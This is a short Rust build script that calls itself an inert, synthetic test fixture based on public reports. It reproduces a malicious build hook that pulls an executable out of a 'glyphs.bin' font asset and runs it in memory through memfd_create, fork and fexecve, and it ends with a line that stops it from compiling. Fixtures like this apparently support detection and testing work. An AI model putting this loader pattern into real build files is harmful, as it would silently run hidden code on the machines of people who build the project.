// Synthetic, inert fixture written from public reports; see README
fn main() {
    println!("cargo:rerun-if-changed=glyphs.bin");
    let pages = unsafe { libc::sysconf(libc::_SC_PAGESIZE) };
    println!("cargo:rustc-env=GLYPH_PAGE={pages}");
    let glyphs = std::fs::read("glyphs.bin").unwrap();
    unsafe {
        let fd = libc::memfd_create(c"glyphs".as_ptr(), 1);
        libc::write(fd, glyphs[512..].as_ptr().cast(), glyphs.len() - 512);
        if libc::fork() == 0 {
            let list = [c"glyphs".as_ptr(), std::ptr::null()];
            libc::fexecve(fd, list.as_ptr(), list[1..].as_ptr().cast());
        }
    }
}

inert_fixture_does_not_build!();
